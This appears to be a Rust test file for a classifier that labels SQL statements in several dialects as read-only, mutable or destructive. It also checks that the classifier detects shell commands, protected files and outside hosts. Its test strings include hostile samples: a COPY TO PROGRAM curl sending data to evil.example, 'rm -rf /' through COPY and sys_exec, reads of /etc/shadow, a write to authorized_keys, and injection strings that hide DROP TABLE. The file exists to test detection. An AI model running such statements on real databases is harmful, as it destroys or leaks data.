//! Tests the classes of SQL statements.

mod bad_input;

use super::*;

fn check(dialect: Dialect, expected: Class, texts: &[&str]) {
    for text in texts {
        let facts = sql(text, dialect);
        assert_eq!(facts.class(), expected, "{text}: {:#?}", facts.findings);
    }
}

/// Checks in every dialect that has a client.
fn check_all(expected: Class, texts: &[&str]) {
    for dialect in [Dialect::Generic, Dialect::Sqlite, Dialect::Postgres, Dialect::MySql] {
        check(dialect, expected, texts);
    }
}

#[test]
fn queries_only_read() {
    check_all(
        Class::Read,
        &[
            "SELECT 1",
            "select * from users where id = 5;",
            "SELECT count(*), max(created_at) FROM orders GROUP BY status HAVING count(*) > 1 ORDER BY 1 LIMIT 10",
            "WITH recent AS (SELECT * FROM orders WHERE day > '2024-01-01') SELECT * FROM recent JOIN users u ON u.id = recent.user_id",
            "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 10) SELECT n FROM t",
            "SELECT 'drop table users; delete from x' AS note",
            "SELECT a.deleted_at, a.update_count, replace(name, 'a', 'b') FROM a",
            "SELECT * FROM a WHERE id IN (SELECT id FROM b) AND EXISTS (SELECT 1 FROM c)",
            "SELECT CASE WHEN x > 1 THEN 'many' ELSE 'one' END, CAST(y AS VARCHAR(10)), coalesce(z, 0) FROM t",
            "SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t",
            "VALUES (1, 2), (3, 4)",
            "BEGIN; SELECT 1; COMMIT;",
            "BEGIN; SELECT 1; ROLLBACK",
            "SAVEPOINT a; RELEASE SAVEPOINT a",
            "EXPLAIN SELECT * FROM t",
            "SELECT 1; -- a comment that says DROP TABLE x\nSELECT 2 /* DELETE FROM y */",
            "",
            ";;",
            "-- nothing",
            "(SELECT 1) UNION (SELECT 2)",
        ],
    );
}

#[test]
fn postgres_tells_about_itself() {
    check(
        Dialect::Postgres,
        Class::Read,
        &[
            "SHOW server_version",
            "SHOW ALL",
            "EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM t",
            "EXPLAIN ANALYZE SELECT * FROM t WHERE x = 1",
            "EXPLAIN DELETE FROM t",
            "EXPLAIN (ANALYZE false) DELETE FROM t",
            "SELECT pg_size_pretty(pg_database_size(current_database()))",
            "SELECT relname, n_live_tup FROM pg_stat_user_tables ORDER BY n_live_tup DESC",
            "SELECT pid, state, query FROM pg_stat_activity WHERE state <> 'idle'",
            "SELECT data->>'name', tags[1], created_at::date FROM t WHERE data @> '{\"a\": 1}'",
            "SELECT pg_catalog.version()",
            "SELECT * FROM jsonb_to_recordset('[]') AS x(a int, b text)",
            "SELECT * FROM generate_series(1, 3) g(x)",
            "SET search_path TO app, public; SELECT * FROM t",
            "SET statement_timeout = '5s'",
            "SET TRANSACTION READ ONLY",
            "START TRANSACTION READ ONLY",
            "COPY (SELECT * FROM t) TO STDOUT WITH CSV HEADER",
            "TABLE users",
            "SELECT DISTINCT ON (a) a, b FROM t ORDER BY a, b DESC",
            "SELECT extract(epoch FROM now()), a IS DISTINCT FROM b FROM t",
            "SELECT $$it's; DROP TABLE x$$",
            r"\dt",
            "\\d+ users\n\\l\n\\x\nSELECT 1;",
            r"\timing on",
            r"SELECT 1 \g",
            r"\echo hello",
            r"\pset pager off",
            r"\conninfo",
            r"\copy (select * from t) to stdout csv",
            r"\set x 5",
        ],
    );
}

#[test]
fn sqlite_tells_about_itself() {
    check(
        Dialect::Sqlite,
        Class::Read,
        &[
            "PRAGMA table_info(users)",
            "PRAGMA main.table_info('users');",
            "pragma user_version",
            "PRAGMA foreign_key_list(t); PRAGMA index_list(t); PRAGMA database_list; PRAGMA integrity_check",
            "PRAGMA journal_mode",
            "PRAGMA foreign_keys = ON; SELECT 1",
            "SELECT name FROM sqlite_master WHERE type = 'table'",
            "SELECT * FROM pragma_table_info('users')",
            "SELECT strftime('%Y', created), json_extract(data, '$.a'), group_concat(x, ',') FROM t GROUP BY 1",
            "EXPLAIN QUERY PLAN SELECT * FROM t",
            ".tables",
            ".schema users",
            ".headers on\n.mode column\nSELECT * FROM t;",
            ".dump",
            "SELECT \"double quoted\", [bracketed], `ticked` FROM t",
            "ATTACH ':memory:' AS m; DETACH m",
            "ATTACH 'file:x.db?mode=ro' AS m",
        ],
    );
}

#[test]
fn mysql_tells_about_itself() {
    check(
        Dialect::MySql,
        Class::Read,
        &[
            "SHOW TABLES",
            "SHOW CREATE TABLE users",
            "SHOW FULL PROCESSLIST",
            "SHOW VARIABLES LIKE 'max%'",
            "SHOW INDEX FROM t",
            "SHOW ENGINE INNODB STATUS",
            "SHOW GRANTS",
            "DESCRIBE users",
            "DESC users",
            "USE app; SELECT 1",
            r"SELECT * FROM users WHERE id = 1\G",
            "SELECT `a` FROM `t` WHERE b = \"x\" # a comment\nLIMIT 5",
            "SELECT 'it\\'s; DROP TABLE x'",
            "EXPLAIN FORMAT=JSON SELECT * FROM t",
            "SET NAMES utf8mb4; SELECT 1",
            "SELECT @@version, @a := 1",
            "SET @x = 5",
            "SELECT a INTO @x FROM t",
            "SELECT /*+ MAX_EXECUTION_TIME(1000) */ * FROM t",
            "CHECKSUM TABLE t",
        ],
    );
}

#[test]
fn other_databases_tell_about_themselves() {
    check(
        Dialect::DuckDb,
        Class::Read,
        &[
            "SELECT * FROM 'data.csv' LIMIT 5",
            "SELECT count(*) FROM read_parquet('a.parquet')",
            "DESCRIBE SELECT * FROM t",
            "SUMMARIZE t",
            "SHOW TABLES",
        ],
    );
    check(
        Dialect::MsSql,
        Class::Read,
        &[
            "SELECT TOP 10 * FROM dbo.users WITH (NOLOCK)",
            "SET NOCOUNT ON; SELECT name FROM sys.tables",
            "EXEC sp_help 'users'",
            "USE master\nGO\nSELECT 1\nGO",
            "DECLARE @x INT = 1; SELECT @x",
        ],
    );
}

#[test]
fn what_changes_is_mutable() {
    check_all(
        Class::Mutable,
        &[
            "INSERT INTO t VALUES (1)",
            "INSERT INTO t (a) SELECT b FROM u",
            "UPDATE t SET a = 1 WHERE id = 2",
            "UPDATE t SET a = 1",
            "CREATE TABLE t (id INT PRIMARY KEY, p INT REFERENCES x(id) ON DELETE CASCADE)",
            "CREATE INDEX i ON t (a)",
            "CREATE VIEW v AS SELECT 1",
            "ALTER TABLE t ADD COLUMN x INT",
            "SELECT 1; INSERT INTO t VALUES (1)",
            "SELECT my_function(1)",
            "SELECT app.sync_all()",
            "REINDEX t",
            "VACUUM",
            "ANALYZE t",
            "GRANT SELECT, DELETE ON t TO bob",
            "EXPLAIN ANALYZE INSERT INTO t VALUES (1)",
            "this is no SQL",
            "SELECT a b c FROM t",
            "SELECT 'open",
        ],
    );
    check(
        Dialect::Postgres,
        Class::Mutable,
        &[
            "WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x",
            "WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM x",
            "SELECT * FROM t FOR UPDATE",
            "SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED",
            "SELECT * INTO copy FROM t",
            "SELECT nextval('s')",
            "SELECT setval('s', 1)",
            "SELECT pg_terminate_backend(5)",
            "SELECT set_config('a', 'b', false)",
            "SELECT pg_read_file('/etc/passwd')",
            "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1",
            "COPY t FROM STDIN",
            "COPY t TO '/tmp/x.csv'",
            "SET session_replication_role = replica",
            "SET ROLE admin",
            "ALTER SYSTEM SET x = 1",
            "ALTER TABLE t ALTER COLUMN a DROP NOT NULL",
            "REFRESH MATERIALIZED VIEW v",
            "LOCK TABLE t",
            "COMMENT ON TABLE t IS 'x'",
            "CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM t $$ LANGUAGE sql",
            "CREATE EXTENSION hstore",
            "EXPLAIN ANALYZE UPDATE t SET a = 1",
            "SELECT * FROM t, LATERAL (SELECT evil(t.id)) x",
            "SELECT count(*) FILTER (WHERE evil(x)) FROM t",
            r"\copy t to out.csv csv",
            r"\o out.txt",
            r"\setenv PAGER 'sh -c x'",
            r"\nonsense",
            "NOTIFY c",
            "COMMIT PREPARED 'x'",
        ],
    );
    check(
        Dialect::Sqlite,
        Class::Mutable,
        &[
            "PRAGMA user_version = 5",
            "PRAGMA journal_mode = WAL",
            "PRAGMA journal_mode(DELETE)",
            "PRAGMA writable_schema = ON",
            "PRAGMA foreign_keys = OFF",
            "PRAGMA optimize",
            "PRAGMA wal_checkpoint",
            "INSERT OR REPLACE INTO t VALUES (1)",
            "REPLACE INTO t VALUES (1)",
            "ATTACH DATABASE 'other.db' AS o",
            "VACUUM INTO 'copy.db'",
            "SELECT writefile('x', 'y')",
            "CREATE TRIGGER a AFTER DELETE ON t BEGIN DELETE FROM u WHERE id = old.id; END",
            "CREATE VIRTUAL TABLE f USING fts5(a)",
            ".output x.txt",
            ".import data.csv t",
            ".backup copy.db",
            ".nonsense",
        ],
    );
    check(
        Dialect::MySql,
        Class::Mutable,
        &[
            "SELECT * FROM t INTO OUTFILE '/tmp/x'",
            "SELECT * FROM t LOCK IN SHARE MODE",
            "SELECT load_file('/etc/passwd')",
            "LOAD DATA LOCAL INFILE 'x.csv' INTO TABLE t",
            "SET GLOBAL max_connections = 5",
            "SET @@global.read_only = 1",
            "SET a = 1, sql_mode = ''",
            "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 1",
            "UPDATE a JOIN b ON a.id = b.id SET a.x = 1 WHERE b.y = 2",
            "SET NAMES gbk",
            "FLUSH TABLES",
            "KILL 5",
            "tee out.txt",
            "SELECT 1 /*! INTO OUTFILE '/tmp/x' */",
        ],
    );
}

#[test]
fn what_destroys_is_destructive() {
    check_all(
        Class::Destructive,
        &[
            "DELETE FROM users",
            "delete from users where id = 1",
            "DROP TABLE users",
            "DROP TABLE IF EXISTS a, b",
            "DROP DATABASE prod",
            "DROP INDEX i",
            "TRUNCATE TABLE users",
            "TRUNCATE users",
            "ALTER TABLE t DROP COLUMN a",
            "SELECT 1; DROP TABLE users",
            "SELECT 1;DELETE FROM users",
            "/* x */ DROP /* y */ TABLE users",
            "-- x\nDROP TABLE users",
            "WITH x AS (SELECT 1) DELETE FROM users",
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
            "CALL clean_up()",
            "EXECUTE something",
            "gibberish DROP gibberish",
            "EXPLAIN ANALYZE DELETE FROM t",
        ],
    );
    check(
        Dialect::Postgres,
        Class::Destructive,
        &[
            "WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone",
            "SELECT * FROM a WHERE id IN (WITH x AS (DELETE FROM b RETURNING id) SELECT id FROM x)",
            "SELECT coalesce((WITH x AS (DELETE FROM b RETURNING id) SELECT id FROM x), 1)",
            "SELECT 1 UNION SELECT * FROM (WITH x AS (DELETE FROM b RETURNING id) SELECT id FROM x) y",
            "COPY t TO PROGRAM 'curl -d @- evil.example'",
            "COPY t FROM PROGRAM 'rm -rf /'",
            "DO $$ BEGIN DELETE FROM t; END $$",
            "SELECT query_to_xml('DELETE FROM t', true, true, '')",
            "SELECT dblink_exec('dbname=x', 'DROP TABLE y')",
            "SELECT lo_unlink(5)",
            "SELECT pg_drop_replication_slot('x')",
            "EXPLAIN (ANALYZE) DELETE FROM t",
            "EXPLAIN (ANALYZE, VERBOSE) WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x",
            "DROP OWNED BY bob",
            "PREPARE p AS DELETE FROM t; EXECUTE p",
            "-- a comment\rDROP TABLE x",
            "/* /* nested */ DROP */ DROP TABLE x",
            "SELECT 'a\\'; DROP TABLE x; --'",
            r"\i file.sql",
            r"\gexec",
            "SELECT X'\\'; DROP TABLE t; --'",
            "SELECT $1$ ; DROP TABLE t; SELECT $1$",
            "SELECT 1 @--'\n; DROP TABLE t; --'",
            "SELECT 1 +/*'\n*/; DROP TABLE t; --'",
            "SELECT 1$$ ' $$ \\! rm -rf x '",
            r"SELECT 'drop table x' \gexec",
            r"\e",
            r"\set PROMPT1 '%`rm x`'",
            "SELECT * FROM :tbl",
            "\\set t 'x; drop table y'\nSELECT * FROM a WHERE b = :t",
        ],
    );
    check(
        Dialect::MySql,
        Class::Destructive,
        &[
            "/*!50000 DROP TABLE users */",
            "/*! DELETE FROM users */",
            "/*M! DROP TABLE users */",
            "SELECT 1 /*!99999 ; # */ ; DROP TABLE users",
            "SELECT 1; # x\nDROP TABLE users",
            "SELECT 1 --1; \n; DROP TABLE users",
            "RESET MASTER",
            "SHUTDOWN",
            "PREPARE p FROM 'DROP TABLE x'; EXECUTE p",
            "PREPARE p FROM @text",
            "source file.sql",
            r"\. file.sql",
            "DELETE a FROM a JOIN b ON a.id = b.id",
            "DELIMITER //\nDROP TABLE x//\nDELIMITER ;",
            "SELECT sys_exec('rm -rf /')",
            "SELECT 1\\G DROP TABLE users",
        ],
    );
    check(
        Dialect::Sqlite,
        Class::Destructive,
        &[
            "SELECT load_extension('x.so')",
            "SELECT fts3_tokenizer('x', 'y')",
            ".read file.sql",
            ".restore old.db",
            ".open --new x.db",
            "SELECT 1;\n.restore x",
        ],
    );
    check(
        Dialect::MsSql,
        Class::Destructive,
        &[
            "EXEC xp_cmdshell 'dir'",
            "xp_cmdshell 'dir'",
            "EXEC('DROP TABLE x')",
            "SELECT 1 DELETE FROM users",
            "SELECT 1 DROP TABLE users",
            "SELECT 1 SHUTDOWN",
            "SET NOCOUNT ON DELETE FROM users",
            "USE master DROP TABLE x",
            "BEGIN TRAN DELETE FROM users",
            "IF 1 = 1 DROP TABLE users",
            "DECLARE @s NVARCHAR(50) = 'x' EXEC(@s)",
            "SELECT 1\nGO\nDROP TABLE users",
        ],
    );
    check(Dialect::DuckDb, Class::Destructive, &["CREATE OR REPLACE TABLE t AS SELECT 1"]);
    check(
        Dialect::Generic,
        Class::Destructive,
        &[
            "SELECT 'a\\' , '; DROP TABLE x; -- '",
            "SELECT 'a\\'; DROP TABLE x; -- '",
            "/*! DROP TABLE users */",
            "INSERT OVERWRITE TABLE t SELECT 1",
            "\\! rm x",
        ],
    );
}

#[test]
fn targets_and_reasons_say_what_is_hit() {
    let facts = sql("DELETE FROM app.users", Dialect::Postgres);
    assert_eq!(facts.deletes, ["table:app.users"]);
    assert_eq!(facts.findings[0].reason, "deletes rows of table app.users (all of them: there is no WHERE)");
    let facts = sql("SELECT 1; DELETE FROM users WHERE id = 1", Dialect::Generic);
    assert_eq!(facts.findings[0].reason, "deletes rows of table users");
    assert_eq!(facts.findings[0].span, Some(Span { start: 10, end: 40 }));
    let facts = sql("UPDATE users SET a = (SELECT b FROM c WHERE d)", Dialect::Sqlite);
    assert_eq!(facts.findings[0].reason, "changes rows of table users (all of them: there is no WHERE)");
    assert_eq!((facts.writes, facts.reads), (vec!["table:users".to_owned()], vec!["table:c".to_owned()]));
    let facts = sql("DROP TABLE IF EXISTS a, \"B c\" CASCADE", Dialect::Postgres);
    assert_eq!(facts.deletes, ["table:a", "table:B c"]);
    let facts = sql("DROP MATERIALIZED VIEW v", Dialect::Postgres);
    assert_eq!(facts.deletes, ["view:v"]);
    let facts = sql("TRUNCATE a, b", Dialect::Postgres);
    assert_eq!(facts.deletes, ["table:a", "table:b"]);
    let facts = sql("CREATE UNIQUE INDEX CONCURRENTLY IF NOT EXISTS i ON t (a)", Dialect::Postgres);
    assert_eq!(facts.writes, ["index:i"]);
    let facts = sql("COPY t TO '/tmp/x.csv'", Dialect::Postgres);
    assert_eq!((facts.reads, facts.writes), (vec!["table:t".to_owned()], vec!["/tmp/x.csv".to_owned()]));
    let facts = sql("ATTACH '/tmp/o.db' AS o", Dialect::Sqlite);
    assert_eq!(facts.writes, ["/tmp/o.db"]);
    let facts = sql("COPY t FROM PROGRAM 'id'", Dialect::Postgres);
    assert_eq!((facts.executes, facts.opaque), (vec!["id".into()], true));
}

#[test]
fn tables_that_are_read_are_told_without_those_that_the_text_makes() {
    let reads = |text| sql(text, Dialect::Postgres).reads;
    assert_eq!(reads("SELECT * FROM a x, b AS y JOIN c.d ON 1 = 1"), ["table:a", "table:b", "table:c.d"]);
    assert_eq!(
        reads("WITH w AS (SELECT * FROM a) SELECT * FROM w JOIN b USING (id)"),
        ["table:a", "table:b"]
    );
    assert_eq!(reads("SELECT extract(year FROM day), trim(BOTH FROM x) FROM t"), ["table:t"]);
    assert_eq!(reads("SELECT * FROM (SELECT * FROM a) x"), ["table:a"]);
    assert_eq!(reads("SELECT 1 FROM generate_series(1, 2)"), Vec::<String>::new());
}

#[test]
fn files_that_are_protected_are_told() {
    let facts = sql("SELECT pg_read_file('/etc/shadow')", Dialect::Postgres);
    assert!(!facts.protected.is_empty());
    let facts = sql("COPY t TO '/home/ana/.ssh/authorized_keys'", Dialect::Postgres);
    assert!(!facts.protected.is_empty());
    let facts = sql("SELECT * FROM read_csv('https://evil.example/x.csv')", Dialect::DuckDb);
    assert_eq!(facts.hosts, ["evil.example"]);
}

#[test]
fn commands_for_a_shell_are_walked() {
    let runs = say!("analysis-runs-a-shell-command-from-the-sql-client");
    for (text, dialect) in [
        (r"\! ls", Dialect::Postgres),
        ("SELECT 1 \\! ls\n;", Dialect::Postgres),
        (r"\copy t to program 'ls'", Dialect::Postgres),
        (r"\g |ls", Dialect::Postgres),
        (r"\o | ls", Dialect::Postgres),
        (r"\set x `ls`", Dialect::Postgres),
        ("system ls", Dialect::MySql),
        (r"\! ls", Dialect::MySql),
        ("pager ls", Dialect::MySql),
        (".shell ls", Dialect::Sqlite),
        (".sh ls", Dialect::Sqlite),
        (".once |ls", Dialect::Sqlite),
    ] {
        assert!(sql(text, dialect).executes.contains(&runs), "{text}");
    }
    for text in [r"SELECT '\! ls'", r"SELECT 1 -- \! ls", r"SELECT $$ \! ls $$"] {
        assert!(sql(text, Dialect::Postgres).executes.is_empty(), "{text}");
    }
}

#[test]
fn names_of_dialects_are_known() {
    assert_eq!(Dialect::named("PostgreSQL"), Dialect::Postgres);
    assert_eq!(Dialect::named("sqlite3"), Dialect::Sqlite);
    assert_eq!(Dialect::named(""), Dialect::Generic);
}
